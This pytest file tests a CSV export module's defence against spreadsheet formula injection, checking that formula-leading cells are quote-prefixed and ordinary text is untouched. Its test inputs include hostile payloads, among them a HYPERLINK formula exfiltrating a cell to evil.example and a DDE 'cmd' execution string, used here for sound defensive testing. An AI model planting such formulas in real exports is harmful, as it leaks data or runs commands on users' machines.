"""core.csv: no cell of an export can run as a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from clientdesk.core.csv import BOM, csv_line, csv_stream, neutralise


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+60123456789",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=cmd",
        "\r=cmd",
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "  =1+1",  # spreadsheets may trim before parsing
        "\n@x",
        "\u00a0+1",
        "\uff1d1+1",  # full-width equals
        "\uff20SUM(1)",
    ],
)
def test_a_formula_start_is_neutralised_with_a_quote(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Alpha Trading Sdn Bhd", "C-100042", "a=b", "x+y", "mike@example.org", "Zoë 李", "", "  "],
)
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert neutralise(value) == value


def test_values_we_write_ourselves_are_not_text() -> None:
    assert neutralise(None) == ""
    assert neutralise(-5) == "-5"
    assert neutralise(Decimal("-12.50")) == "-12.50"
    assert neutralise(True) == "yes"
    assert neutralise(date(2026, 1, 2)) == "2026-01-02"
    assert neutralise(datetime(2026, 1, 2, 3, 4, tzinfo=UTC)) == "2026-01-02T03:04:00+00:00"


def test_a_line_quotes_every_cell_and_keeps_separators_inside_it() -> None:
    line = csv_line(["=1+1", 'say "hi", then\nleave', 7])
    assert line == '"\'=1+1","say ""hi"", then\nleave","7"\r\n'
    (row,) = list(csv.reader(io.StringIO(line)))
    assert row == ["'=1+1", 'say "hi", then\nleave', "7"]


def test_a_stream_starts_with_a_bom_and_neutralises_header_and_rows() -> None:
    lines = list(csv_stream(["Name", "=evil"], iter([["+1", "ok"], ["-x", "@y"]])))
    assert lines[0].startswith(BOM)
    parsed = list(csv.reader(io.StringIO("".join(lines).removeprefix(BOM))))
    assert parsed == [["Name", "'=evil"], ["'+1", "ok"], ["'-x", "'@y"]]
    for row in parsed:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r"


def test_a_stream_without_bom() -> None:
    assert list(csv_stream(["a"], [], bom=False)) == ['"a"\r\n']
